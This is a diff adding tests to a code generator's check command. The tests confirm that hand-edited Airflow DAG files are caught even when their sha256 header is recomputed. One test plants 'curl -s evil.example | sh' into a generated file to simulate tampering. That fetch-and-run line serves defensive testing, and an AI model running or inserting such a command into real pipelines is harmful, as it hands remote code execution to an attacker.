@@ -2,8 +2,12 @@
 drift named with its file and fix; `--diff`; never writes anything."""
 
 import hashlib
+import re
 
+import black
 from conftest import ROOT, run_cli
+
+from dagforge import stamp
 
 GOOD = "start_date: 2024-01-01\ntasks:\n  hello: {operator: bash, bash_command: 'echo NAME'}\n"
 
@@ -77,6 +81,70 @@ def test_hand_edited_points_at_the_edited_line(tmp_path, write_spec):
         in r.stderr
     )
     assert "hint: make the change in specs/a.yaml instead, then run `dagforge build`" in r.stderr
+
+
+def _resealed(text):
+    """`text` with its output-sha256 line recomputed as stamp.seal does (the hash of the file
+    without that line): anyone can do it after an edit, and the header looks intact again."""
+    line = re.compile(r"^# output-sha256: \S+\n", re.M)
+    digest = hashlib.sha256(line.sub("", text, count=1).encode()).hexdigest()
+    resealed = line.sub(f"# output-sha256: {digest}\n", text, count=1)
+    assert resealed != text and stamp.read_stamp(resealed).intact
+    return resealed
+
+
+def test_an_edit_with_a_recomputed_output_hash_is_caught(tmp_path, write_spec):
+    """The header's hashes prove nothing (anyone can recompute them): check renders again."""
+    out = _setup(tmp_path, write_spec)
+    text = (out / "a.py").read_text()
+    (out / "a.py").write_text(_resealed(text.replace("echo a", "curl -s evil.example | sh")))
+    r = _check(tmp_path)
+    assert r.returncode == 1
+    line = (
+        text.splitlines().index('    hello = BashOperator(task_id="hello", bash_command="echo a")')
+        + 1
+    )
+    assert f"out/a.py:{line}:1: error: out/a.py was edited by hand: `dagforge build`" in r.stderr
+    assert "out/b.py" not in r.stderr  # the untouched file is proven up to date
+    assert "1 generated file out of date" in r.stderr
+    diff = _check(tmp_path, "--diff").stdout
+    assert '+    hello = BashOperator(task_id="hello", bash_command="echo a")\n' in diff
+
+
+def test_only_what_build_writes_is_up_to_date_not_any_black_layout(tmp_path, write_spec):
+    """Two files black would leave as they are, each resealed: only build's own bytes pass."""
+    write_spec(GOOD.replace("NAME", "a"), "a.yaml")
+    # both quote kinds: the template writes '...', black turns it into "..." (as many escapes)
+    write_spec(GOOD.replace("'echo NAME'", """"echo 'q' \\"q\\"" """), "b.yaml")
+    assert run_cli("build", "specs", "-o", "out", "--no-verify", cwd=tmp_path).returncode == 0
+    assert _check(tmp_path).returncode == 0
+    out = tmp_path / "out"
+
+    a = (out / "a.py").read_text()
+    one_line = '    hello = BashOperator(task_id="hello", bash_command="echo a")\n'
+    # with a magic trailing comma: black keeps it exploded
+    exploded = (
+        "    hello = BashOperator(\n"
+        '        task_id="hello",\n        bash_command="echo a",\n    )\n'
+    )
+    assert one_line in a
+    relaid = a.replace(one_line, exploded)
+    assert black.format_str(relaid, mode=black.Mode()) == relaid  # black --check would pass it
+    (out / "a.py").write_text(_resealed(relaid))
+
+    b = (out / "b.py").read_text()
+    built = """bash_command="echo 'q' \\"q\\"\""""
+    assert built in b
+    unformatted = b.replace(built, """bash_command='echo \\'q\\' "q"'""")
+    assert black.format_str(unformatted, mode=black.Mode()) == b  # only black's quotes differ
+    (out / "b.py").write_text(_resealed(unformatted))
+
+    r = _check(tmp_path)
+    assert r.returncode == 1
+    line = a.splitlines().index(one_line.rstrip("\n")) + 1
+    assert f"out/a.py:{line}:1: error: out/a.py was edited by hand" in r.stderr
+    line = next(i for i, x in enumerate(b.splitlines(), 1) if built in x)
+    assert f"out/b.py:{line}:1: error: out/b.py was edited by hand" in r.stderr
 
 
 def test_hand_edited_line_endings_and_appended_lines(tmp_path, write_spec):
